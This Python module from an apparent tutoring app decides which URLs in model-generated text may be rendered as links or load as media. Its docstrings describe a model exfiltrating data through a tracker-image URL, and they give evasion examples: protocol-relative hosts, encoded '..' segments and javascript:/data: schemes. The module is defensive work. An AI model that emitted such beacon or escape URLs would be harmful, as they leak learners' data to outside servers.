"""Which URLs from untrusted (model) text may reach the page. One place for the rule.

A link is only followed when the learner clicks it, so any http(s) or mailto address may be
a link. Media load by themselves, so a model could use them to make the learner's browser
call any server (`![](https://tracker/px.gif?d=...)`): they may come only from the app's
own assets under /media/, or from hosts the operator lists in TUTOR_MEDIA_HOSTS.

Every check decides on the URL as a browser would read it: percent-escapes decoded,
backslashes taken for slashes ("/\\evil.example" is protocol-relative to a browser), dot
segments resolved ("/media/%2e%2e/x" leaves /media/). Anything doubtful is refused.
"""

from __future__ import annotations

from urllib.parse import SplitResult, unquote, urlsplit

from tutor.settings import media_hosts

ASSET_PREFIX = "/media/"


def is_safe_link(url: str) -> bool:
    """A link may be http(s) with a host, mailto, or a relative/fragment link inside the app.
    Malformed web addresses (`http:/evil.com`, `https:evil.com`) are not links."""
    url = url.strip()
    if not url or _has_control_chars(url) or "\\" in url:
        return False
    parts = _split(url)
    if parts is None:
        return False
    scheme = parts.scheme.lower()
    if scheme in ("http", "https"):
        return _is_web_address(url, parts)
    if scheme == "mailto":
        return bool(parts.path.strip())
    if scheme:
        return False  # javascript:, data:, vbscript:, file: ...
    # No scheme: a path or a fragment in the app; never protocol-relative ("//host", "/\host").
    plain = _decoded(url)
    return plain is not None and not _has_control_chars(plain) and not plain.replace("\\", "/").startswith("//")


def is_safe_media_src(src: str, hosts: tuple[str, ...] | None = None) -> bool:
    """Media may load only from the app's assets ("/media/<module>/x.svg") or, over http(s),
    from a host in `hosts` (default: TUTOR_MEDIA_HOSTS, empty unless the operator sets it)."""
    src = src.strip()
    if not src or _has_control_chars(src) or "\\" in src:
        return False
    if src.startswith("/") and not src.startswith("//"):
        return is_asset_path(src)
    parts = _split(src)
    if parts is None or parts.scheme.lower() not in ("http", "https") or not _is_web_address(src, parts):
        return False  # javascript:, data:, file:, blob:, protocol-relative, malformed ...
    allowed = media_hosts() if hosts is None else tuple(h.lower() for h in hosts)
    return host_allowed(parts.hostname or "", allowed)


def is_asset_path(src: str) -> bool:
    """`src` names a file under /media/ and stays there however a browser or server reads it."""
    path = src.split("#", 1)[0].split("?", 1)[0]  # the raw query and fragment are not the path
    plain = _decoded(path)
    if plain is None or _has_control_chars(plain):
        return False
    plain = plain.replace("\\", "/")
    if not plain.startswith(ASSET_PREFIX) or "?" in plain or "#" in plain:  # "%3f" is no file name
        return False
    segments = plain[len(ASSET_PREFIX):].split("/")
    return all(seg not in ("", ".", "..") for seg in segments)


def host_allowed(host: str, allowed: tuple[str, ...]) -> bool:
    """Exact host names; an entry starting with a dot also allows its subdomains."""
    host = host.lower()
    if not host:
        return False
    for entry in allowed:
        if entry.startswith("."):
            if host == entry[1:] or host.endswith(entry):
                return True
        elif host == entry:
            return True
    return False


def _is_web_address(url: str, parts: SplitResult) -> bool:
    """http(s)://host... with a real host: no user:password@, no escapes in the host, and the
    two slashes written out (a browser reads "http:/x" and "http:x" differently by page)."""
    after = url.split(":", 1)[1]
    netloc = parts.netloc
    return (after.startswith("//") and bool(parts.hostname) and "@" not in netloc and "%" not in netloc
            and _port_ok(parts))


def _port_ok(parts: SplitResult) -> bool:
    try:
        parts.port  # noqa: B018 (raises on a malformed port)
    except ValueError:
        return False
    return True


def _split(url: str) -> SplitResult | None:
    try:
        return urlsplit(url)
    except ValueError:  # e.g. an unbalanced "[" in the host
        return None


def _decoded(text: str, rounds: int = 4) -> str | None:
    """Percent-escapes decoded until nothing changes ("%252e" -> "%2e" -> "."); None when it
    keeps changing (nobody writes an honest path escaped that many times)."""
    for _ in range(rounds):
        try:
            plain = unquote(text, errors="strict") if "%" in text else text
        except UnicodeDecodeError:  # "%ff": not text a browser or our server would agree on
            return None
        if plain == text:
            return plain
        text = plain
    return None


def _has_control_chars(text: str) -> bool:
    return any(ord(ch) < 32 or 127 <= ord(ch) < 160 for ch in text)
